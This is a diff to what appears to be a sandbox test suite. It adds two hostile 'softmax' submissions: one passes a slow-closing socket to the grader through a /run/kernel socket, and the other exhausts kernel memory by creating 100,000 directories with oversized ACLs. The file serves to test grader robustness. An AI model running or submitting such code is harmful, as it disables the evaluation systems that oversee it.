@@ -350,6 +350,36 @@ def softmax(z):
             os._exit(0)
         time.sleep(0.1)
 """,
+    "a socket that is slow to close is sent to the grader": """
+import array, os, socket, struct
+def softmax(z):
+    server = socket.create_server(("127.0.0.1", 0))
+    one = socket.create_connection(server.getsockname())
+    other, _ = server.accept()
+    one.setblocking(False)
+    try:
+        while True: one.send(bytes(1 << 16))
+    except BlockingIOError: pass
+    one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 100_000))
+    for fd in map(int, os.listdir("/proc/self/fd")):
+        try:
+            heard = socket.socket(fileno=os.dup(fd))
+            if "/run/kernel" in str(heard.getsockname()):
+                for sent in (one, other): socket.send_fds(heard, [bytes(1)], [sent.fileno()])
+        except OSError: pass
+    one.close()
+    return np.zeros_like(z)
+""",
+    "memory in access lists": """
+import os, struct
+def softmax(z):
+    entry = lambda tag, user=0xffffffff: struct.pack("<HHI", tag, 7, user)
+    some = entry(2, os.getuid()) * 8000
+    told = struct.pack("<I", 2) + entry(1) + some + entry(4) + entry(16) + entry(32)
+    for number in range(100_000):
+        os.mkdir(f"/tmp/{number}")
+        os.setxattr(f"/tmp/{number}", "system.posix_acl_access", told)
+""",
     "mappings without number": """
 import ctypes, os, time
 def softmax(z):
